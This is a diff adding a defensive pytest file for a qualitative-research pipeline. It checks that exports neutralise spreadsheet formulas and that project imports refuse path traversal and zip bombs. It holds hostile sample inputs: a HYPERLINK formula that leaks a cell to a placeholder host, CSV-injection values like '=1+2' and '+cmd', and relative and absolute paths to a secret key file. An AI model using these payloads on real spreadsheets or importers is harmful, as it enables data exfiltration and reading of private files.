@@ -1,0 +1,139 @@
+"""A colleague's file can do no harm (issue 38): each hostile or unlucky file, what qcode
+does with it, and what it must not do. Each test prints one line for the fault table."""
+
+import json
+import zipfile
+
+import openpyxl
+from typer.testing import CliRunner
+
+from pipeline import Config, load_codebook
+from pipeline.cells import csv_text, escape, unescape
+from pipeline.cli import app
+from pipeline.importing import read_project, write_import
+from pipeline.store import read_excerpts
+
+from .conftest import FakeEmbedder, coded_folder, write
+
+runner = CliRunner()
+FORMULA = '=HYPERLINK("http://x/?"&H3,"more")'
+
+
+def hostile_study(tmp_path, fake_embedder):
+    texts = {"=1+2.txt": f"Interviewer: Why?\nParticipant: {FORMULA} we trusted the board.\n"}
+    return coded_folder(tmp_path, fake_embedder, texts, {"=1+2.txt": "+cmd"}, Config(threshold=0.0, max_codes=1))
+
+
+def test_escape_and_unescape_are_inverse_and_leave_numbers_alone():
+    for value in ["=1+2", "+cmd", "-5", "@SUM(A1)", "\tx", "plain", "'quoted", ""]:
+        assert unescape(escape(value)) == value
+    assert escape(-5) == -5 and escape("-5") == "'-5"
+    assert csv_text([["=a", None, 3]]) == "'=a,,3\n"
+
+
+def test_exports_write_no_live_formula_and_read_their_own_sheets_back(tmp_path, fake_embedder):
+    out = hostile_study(tmp_path, fake_embedder)
+    assert runner.invoke(app, ["export", "table", str(out), "-o", str(tmp_path / "t.xlsx")]).exit_code == 0
+    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(isinstance(c.value, str) and c.value.startswith(FORMULA) for c in cells)  # kept, as text
+    assert runner.invoke(app, ["export", "table", str(out), "-o", str(tmp_path / "t.csv")]).exit_code == 0
+    written = [tmp_path / "t.csv", tmp_path / "t.participants.csv", out / "counts.csv"]
+    assert runner.invoke(app, ["counts", str(out), "--by", "sector"]).exit_code == 0
+    written += sorted((out / "counts").glob("*.csv"))
+    for path in written:
+        for line in path.read_text().splitlines():
+            for cell in line.split(","):
+                assert not cell.lstrip('"').startswith(("=", "+", "@")), f"{path.name}: {line}"
+    # a reviewer fills the sheet; review import reads the escaped and the text cells alike
+    sheet = book["excerpts"]
+    header = [c.value for c in sheet[1]]
+    sheet.cell(row=2, column=header.index("review status") + 1, value="accepted")
+    sheet.cell(row=2, column=header.index("reviewer") + 1, value="ana")
+    book.save(tmp_path / "filled.xlsx")
+    res = runner.invoke(app, ["review", "import", str(tmp_path / "filled.xlsx"), "--into", str(out)])
+    assert res.exit_code == 0, res.output
+    assert [e.review.status for e in read_excerpts(out / "excerpts.jsonl")][0] == "accepted"
+    print("formula cells in exports: xlsx text cells, CSV apostrophe, review import reads both | exit 0")
+
+
+def qdpx(tmp_path, sources: str, extra: dict[str, str] | None = None):
+    """A minimal REFI-QDA project with these TextSource elements (and zip entries)."""
+    xml = (
+        '<?xml version="1.0" encoding="utf-8"?>'
+        '<Project xmlns="urn:QDA-XML:project:1.0" name="p" origin="hostile">'
+        '<CodeBook><Codes><Code guid="c1" name="Trust" isCodable="true"/></Codes></CodeBook>'
+        f"<Sources>{sources}</Sources></Project>"
+    )
+    path = tmp_path / "p.qdpx"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("project.qde", xml)
+        for name, text in (extra or {}).items():
+            z.writestr(name, text)
+    return path
+
+
+def coded_source(guid: str, name: str, path: str) -> str:
+    return (
+        f'<TextSource guid="{guid}" name="{name}" plainTextPath="{path}">'
+        f'<PlainTextSelection guid="s{guid}" startPosition="0" endPosition="5">'
+        f'<Coding guid="k{guid}"><CodeRef targetGUID="c1"/></Coding></PlainTextSelection></TextSource>'
+    )
+
+
+def test_an_import_reads_nothing_outside_the_project(tmp_path):
+    secret = write(tmp_path / "secret" / "study.pseudonym_key.csv", "placeholder,kind,original\n[P1],person,Ann\n")
+    sources = "".join(
+        [
+            coded_source("a", "abs", f"absolute://{secret}"),
+            coded_source("b", "rel", "relative://../secret/study.pseudonym_key.csv"),
+            coded_source("c", "bare", str(secret)),
+            coded_source("d", "ok", "internal://ok.txt"),
+        ]
+    )
+    path = qdpx(tmp_path / "proj", sources, {"sources/ok.txt": "Hello there, we trusted them."})
+    project = read_project(path)
+    write_import(project, path, tmp_path / "imp", embedder=FakeEmbedder())
+    everything = "".join(p.read_text(errors="replace") for p in (tmp_path / "imp").rglob("*") if p.is_file())
+    assert "Ann" not in everything and "Hello there" in everything
+    refused = [p for p in project.problems if "outside the project" in p]
+    assert len(refused) == 3 and all("skipped, with its codings" in p for p in refused)
+    print("qdpx sources outside the project (absolute://, relative://.., bare path): refused, named | exit 0")
+
+
+def test_two_sources_with_one_name_keep_their_own_texts_and_codes(tmp_path):
+    sources = coded_source("a", "int01", "internal://a.txt") + (
+        '<TextSource guid="b" name="int01" plainTextPath="internal://b.txt"/>'
+    )
+    path = qdpx(tmp_path, sources, {"sources/a.txt": "Alpha text, coded.", "sources/b.txt": "Beta text, not."})
+    project = read_project(path)
+    write_import(project, path, tmp_path / "imp", embedder=FakeEmbedder())
+    texts = sorted(p.read_text() for p in (tmp_path / "imp" / "transcripts").glob("*.txt"))
+    assert len(texts) == 2 and any("Alpha" in t for t in texts) and any("Beta" in t for t in texts)
+    labelled = [json.loads(x) for x in (tmp_path / "imp" / "labelled.jsonl").read_text().splitlines()]
+    assert all("Alpha" in row["text"] for row in labelled if row["labels"])
+    assert any("int01" in p and "same name" in p for p in project.problems)
+    print("two TextSources named alike: both kept under distinct names, codes stay with their text | exit 0")
+
+
+def test_a_zip_bomb_is_refused_by_its_declared_and_its_real_size(tmp_path):
+    big = " " * (70 * 1024 * 1024)
+    path = qdpx(tmp_path, coded_source("a", "bomb", "internal://bomb.txt"), {"sources/bomb.txt": big})
+    project = read_project(path)
+    assert any("too large" in p for p in project.problems) and not project.documents
+    print("qdpx source of 70 MiB of spaces (zip bomb): refused, named | nothing written for it")
+
+
+def test_hierarchical_codes_in_a_segments_table_import_whole(tmp_path):
+    for i, (cell, theme) in enumerate(
+        [("Team > Trust", "Team"), (r"Barriers\Money", "Barriers"), ("Barriers/Money", "Barriers")]
+    ):
+        table = write(tmp_path / f"seg{i}.csv", f'Document name,Code,Segment\ndoc1,"{cell}",we trusted each other\n')
+        project = read_project(table)
+        result = write_import(project, table, tmp_path / f"imp{i}", embedder=FakeEmbedder())
+        book = load_codebook(tmp_path / f"imp{i}" / "codebook.yaml")
+        assert [t.name for t in book.themes] == [theme] and len(book.codes) == 1
+        assert result.labelled == 1
+    print("segments table with 'A > B', 'A\\B', 'A/B' codes: themes written, codebook valid | exit 0")
